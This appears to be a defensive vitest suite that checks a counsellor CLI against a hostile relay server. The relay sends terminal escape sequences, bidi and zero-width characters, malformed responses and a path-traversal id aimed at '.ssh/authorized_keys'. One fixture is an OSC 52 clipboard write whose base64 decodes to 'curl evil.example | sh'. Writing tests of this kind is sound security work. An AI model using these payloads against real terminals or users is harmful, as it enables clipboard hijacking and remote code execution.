// The counsellor's command against a hostile relay (a small real HTTP server that answers with
// exactly the bytes we choose): escape sequences, OSC links and clipboard writes, bidi overrides
// and zero-width characters in status texts, error bodies and in requests that decrypt fine, and
// answers that are malformed in every way (issue #10.1 and #10.3). Nothing of it may reach the
// terminal, nothing may crash, and nothing may be left in the inbox.
import { existsSync, readdirSync } from 'node:fs';
import { join } from 'node:path';
import * as openpgp from 'openpgp';
import { afterAll, afterEach, beforeAll, describe, expect, it } from 'vitest';
import { type Keys, makeKeys, PASSPHRASE, tempDir, validRequest } from '@vp-contact/test-kit';
import { runCli, writeSecret, type RunResult } from './test-support/fixtures.js';
import { rawServer, type RawResponse, type RawServer } from './test-support/raw-http.js';

// What a terminal acts on or hides: C0 (but line feed and tab), DEL, C1, bidi embeddings,
// overrides and isolates, zero-width characters and the BOM.
const UNSAFE = /[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u200b-\u200f\u202a-\u202e\u2060-\u2069\ufeff]/u;

const CLEAR = '\u001b[2J\u001b[H';
const TITLE = '\u001b]0;vp-counsellor: all clear\u0007';
const LINK = '\u001b]8;;https://evil.example/\u001b\\klik hier\u001b]8;;\u001b\\';
const CLIPBOARD = '\u001b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\u0007';
const C1_CSI = '\u009b31m';
const BIDI = '\u202egnp.exe\u202c \u2066isolate\u2069';
const ZERO_WIDTH = 'a\u200bb\u200dc\u2060d\ufeffe';
/** Direction marks (RLM, LRM, ALM): allowed by the request schema, still replaced when printed. */
const MARKS = '\u200fgnp.exe\u200e \u061cmark';
const HOSTILE = `${CLEAR}${TITLE}${LINK}${CLIPBOARD}${C1_CSI}${BIDI}${ZERO_WIDTH}`;

let provider: Keys;
const temp = tempDir();
let keyFile: string;
let passphraseFile: string;
let tokenFile: string;
let run = 0;
const servers: RawServer[] = [];

beforeAll(async () => {
  provider = await makeKeys();
  keyFile = writeSecret(join(temp.dir, 'private.asc'), provider.privateKey);
  passphraseFile = writeSecret(join(temp.dir, 'passphrase'), PASSPHRASE);
  tokenFile = writeSecret(join(temp.dir, 'token'), 'vpt_test\n');
});
afterEach(async () => {
  await Promise.all(servers.splice(0).map((s) => s.close()));
});
afterAll(() => temp.remove());

async function relay(answer: (request: { method: string; path: string }) => RawResponse): Promise<RawServer> {
  const server = await rawServer(answer);
  servers.push(server);
  return server;
}

const json = (status: number, body: unknown, statusText = 'OK'): RawResponse => ({
  status,
  statusText,
  headers: { 'content-type': 'application/json' },
  body: JSON.stringify(body),
});

function pullArgs(url: string, inbox: string, ...extra: string[]): string[] {
  return ['pull', '--relay', url, '--mailbox', 'voorbeeld', '--token-file', tokenFile, '--inbox', inbox, ...extra];
}

const newInbox = () => join(temp.dir, `inbox-${++run}`);

function expectPrintable(result: RunResult): void {
  expect(result.stdout).not.toMatch(UNSAFE);
  expect(result.stderr).not.toMatch(UNSAFE);
}

/** Pads and encrypts any JSON, as encryptRequest would, but without its schema check. */
async function encryptRaw(value: unknown): Promise<string> {
  const bytes = new TextEncoder().encode(JSON.stringify(value));
  const padded = new Uint8Array(2048).fill(0x20);
  padded.set(bytes);
  return openpgp.encrypt({
    message: await openpgp.createMessage({ binary: padded, format: 'binary' }),
    encryptionKeys: provider.recipient.key,
    format: 'armored',
    config: { preferredCompressionAlgorithm: openpgp.enums.compression.uncompressed },
  });
}

describe('escape sequences from the relay never reach the terminal (#10.1)', () => {
  it('in the status text and the error body of every failure pull reports', async () => {
    const answers: RawResponse[] = [
      json(500, { error: { code: 'internal-error', message: `Database down ${HOSTILE}` } }, `Internal ${TITLE}${CLEAR}Error`),
      json(400, { error: { code: 'bad-limit', message: `Nope ${HOSTILE}` } }, `Bad ${BIDI}`),
      json(401, { error: { code: 'unauthorized', message: HOSTILE } }, `Unauthorized ${LINK}`),
      json(404, { error: { code: HOSTILE, message: HOSTILE } }, CLIPBOARD),
      json(429, { error: { code: 'rate-limited', message: `Slow down\n\nvp-counsellor pull: Pulled 0 new request(s) ${HOSTILE}` } }),
    ];
    for (const answer of answers) {
      const server = await relay(() => answer);
      for (const lang of ['en', 'nl']) {
        const result = await runCli([...pullArgs(server.url, newInbox()), '--lang', lang]);
        expect(result.code).toBe(1);
        expectPrintable(result);
        // One line: a line break from outside cannot fake a second line of output.
        expect(result.stderr.trim().split('\n')).toHaveLength(1);
      }
    }
    // Where the relay's words are shown, a person sees that something odd was there.
    const server = await relay(() => answers[1]!);
    const shown = await runCli(pullArgs(server.url, newInbox()));
    expect(shown.stderr).toContain('Nope \ufffd[2J\ufffd[H');
  });

  it('in a page whose fields carry them: described by field and rule, never quoted', async () => {
    const armored = await encryptRaw(await validRequest());
    const pages = [
      { items: [{ id: `a${CLEAR}`, receivedAt: '2026-11-24T10:00:00Z', ciphertext: armored }], nextCursor: null },
      { items: [{ id: 'a', receivedAt: `2026-11-24T10:00:00Z${TITLE}`, ciphertext: armored }], nextCursor: null },
      { items: [{ id: 'a', receivedAt: '2026-11-24T10:00:00Z', ciphertext: HOSTILE }], nextCursor: null },
      { items: [], nextCursor: 5, [HOSTILE]: HOSTILE },
    ];
    for (const page of pages) {
      const server = await relay(() => json(200, page));
      const result = await runCli(pullArgs(server.url, newInbox()));
      expect(result.code).toBe(1);
      expectPrintable(result);
      expect(result.stderr).toMatch(/^vp-counsellor pull: error: The relay's list of requests is not in the expected form \(items\.0\.\w+ must|nextCursor must/);
      expect(result.stderr).not.toMatch(/vp-counsellor: all clear|evil|2J/);
    }
  });

  it('in requests that decrypt: pull --key, list, show and show --json print none of them', async () => {
    const inbox = newInbox();
    // Passes the request schema (which refuses control characters, bidi overrides and isolates),
    // but carries direction marks, zero-width characters and a line separator.
    const sneaky = await validRequest({ name: `Sam ${MARKS} ${ZERO_WIDTH}`, region: `Noord${'\u2028'}Zuid`, message: `Hallo ${MARKS}\nTweede regel ${ZERO_WIDTH}` });
    // Fails the schema, whose message quotes what it received (meeting: … but received "<ESC>[2J…").
    const broken = { ...(await validRequest()), meeting: HOSTILE, name: CLEAR };
    const items = [
      { id: 'sneaky', receivedAt: '2026-11-24T10:00:00Z', ciphertext: await encryptRaw(sneaky) },
      { id: 'broken', receivedAt: '2026-11-24T11:00:00Z', ciphertext: await encryptRaw(broken) },
    ];
    let listed = false;
    const server = await relay((request) => {
      if (request.method === 'DELETE') return { status: 204, statusText: `No Content ${TITLE}` };
      const page = listed ? { items: [], nextCursor: null } : { items, nextCursor: 'next' };
      listed = true;
      return json(200, page);
    });
    const keyArgs = ['--key', keyFile, '--passphrase-file', passphraseFile];
    const pulled = await runCli(pullArgs(server.url, inbox, ...keyArgs));
    expect(pulled.code).toBe(1);
    expect(pulled.stdout).toBe('Pulled 2 new request(s) into the inbox.\n');
    expect(pulled.stderr).toContain('1 request(s) could not be decrypted with this key.');
    expectPrintable(pulled);

    const list = await runCli(['list', '--inbox', inbox, ...keyArgs]);
    expect(list.code).toBe(0);
    expect(list.stdout).toContain(sneaky.reference);
    expect(list.stdout).toContain('Sam \ufffdgnp.exe\ufffd');
    expect(list.stderr).toContain('_broken.asc');
    expectPrintable(list);

    const show = await runCli(['show', 'sneaky', '--inbox', inbox, ...keyArgs]);
    expect(show.code).toBe(0);
    expect(show.stdout).toMatch(/^Region:\s+Noord\ufffdZuid$/m);
    expect(show.stdout).toContain('  Tweede regel a\ufffdb\ufffdc\ufffdd\ufffde\n');
    expectPrintable(show);

    const showBroken = await runCli(['show', 'broken', '--inbox', inbox, ...keyArgs, '--lang', 'nl']);
    expect(showBroken.code).toBe(1);
    expectPrintable(showBroken);

    // For programs the data stays exact: the characters are written as \u escapes.
    const asJson = await runCli(['show', 'sneaky', '--json', '--inbox', inbox, ...keyArgs]);
    expectPrintable(asJson);
    expect((JSON.parse(asJson.stdout) as { request: unknown }).request).toMatchObject({ name: sneaky.name, region: sneaky.region, message: sneaky.message });
    const listJson = await runCli(['list', '--json', '--inbox', inbox, ...keyArgs]);
    expectPrintable(listJson);
    expect((JSON.parse(listJson.stdout) as { requests: { request: { name: unknown } }[] }).requests[0]!.request.name).toBe(sneaky.name);
  });
});

describe('whatever a relay sends: one clear line, no crash, no stray files (#10.3)', () => {
  const armored = '-----BEGIN PGP MESSAGE-----\n\nwcDMA\n-----END PGP MESSAGE-----\n';
  const item = (over: Record<string, unknown>) => ({ id: 'a1', receivedAt: '2026-11-24T10:00:00Z', ciphertext: armored, ...over });
  const cases: [string, RawResponse, RegExp][] = [
    ['a receipt time JavaScript reads but no file can be named after', json(200, { items: [item({ receivedAt: '0000-01-01T00:00:00+01:00' })], nextCursor: null }), /items\.0\.receivedAt must be a UTC time/],
    ['a receipt time that is no date', json(200, { items: [item({ receivedAt: 'gisteren' })], nextCursor: null }), /items\.0\.receivedAt must be a UTC time/],
    ['an id that is a path', json(200, { items: [item({ id: '../../.ssh/authorized_keys' })], nextCursor: null }), /items\.0\.id must be 1 to 100 letters/],
    ['a page with more items than any page holds', json(200, { items: Array.from({ length: 201 }, (_, i) => item({ id: `r${i}` })), nextCursor: null }), /items must hold at most 200 items/],
    ['a body far longer than a page can be', { status: 200, statusText: 'OK', headers: { 'content-type': 'application/json', 'content-length': '900000000' }, body: '{"items":[' }, /far longer than a page/],
    ['a ciphertext longer than any envelope', json(200, { items: [item({ ciphertext: `${armored}${'A'.repeat(70_000)}` })], nextCursor: null }), /items\.0\.ciphertext must be at most 65536 characters/],
    ['something that is not JSON', { status: 200, statusText: 'OK', headers: { 'content-type': 'application/json' }, body: '<html>Welkom</html>' }, /not JSON/],
    ['JSON of the wrong types', json(200, { items: { a: 1 }, nextCursor: 5 }), /items must be a list/],
    ['JSON that is no object', json(200, [1, 2, 3]), /not in the expected form/],
    ['an error body with a 200', json(200, { error: { code: 'internal-error', message: 'Oops' } }), /not in the expected form/],
    ['a 500 with HTML', { status: 500, statusText: 'Internal Server Error', headers: { 'content-type': 'text/html' }, body: '<html><body><h1>502 Bad Gateway</h1></body></html>' }, /The relay failed \(500 Internal Server Error\)\. Nothing was lost/],
    ['a 200 whose body breaks off', { status: 200, statusText: 'OK', headers: { 'content-type': 'application/json', 'content-length': '5000' }, body: '{"items":[{"id":"a1",' }, /broke off|not JSON|could not reach|Could not reach/i],
  ];

  for (const [what, answer, message] of cases) {
    it(what, async () => {
      const server = await relay(() => answer);
      const inbox = newInbox();
      const result = await runCli(pullArgs(server.url, inbox));
      expect({ code: result.code, stdout: result.stdout }).toEqual({ code: 1, stdout: '' });
      const lines = result.stderr.trim().split('\n');
      expect(lines).toHaveLength(1);
      expect(lines[0]).toMatch(/^vp-counsellor pull: error: /);
      expect(lines[0]).toMatch(message);
      expectPrintable(result);
      // Nothing was acknowledged, and the inbox holds nothing: no request, no .partial file.
      expect(server.requests.filter((r) => r.method === 'DELETE')).toEqual([]);
      expect(existsSync(inbox) ? readdirSync(inbox) : []).toEqual([]);
    });
  }
});
